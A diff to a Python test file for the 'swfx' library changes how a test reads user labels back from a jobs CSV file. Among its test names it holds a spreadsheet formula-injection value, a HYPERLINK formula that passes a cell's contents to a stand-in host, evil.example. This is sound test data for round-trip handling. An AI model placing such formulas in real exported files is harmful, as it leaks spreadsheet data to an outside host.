@@ -11,7 +11,6 @@ import pytest
 from swfx import open_workload
 from swfx.base.csv_columns import read_columns
 from swfx.base.csv_rows import csv_text, write_csv
-from swfx.labels import labels
 
 NAMES = [
     '=HYPERLINK("http://evil.example/?"&A1)',
@@ -54,4 +53,4 @@ def test_names_come_back_from_jobs_csv(tmp_path: Path, name: str) -> None:
 
     jobs = open_workload(f"jobs-csv:{tmp_path / 'jobs.csv'}").workload
 
-    assert labels(jobs, "user").of_jobs() == [name]
+    assert jobs.labels.required("user").of_jobs() == [name]
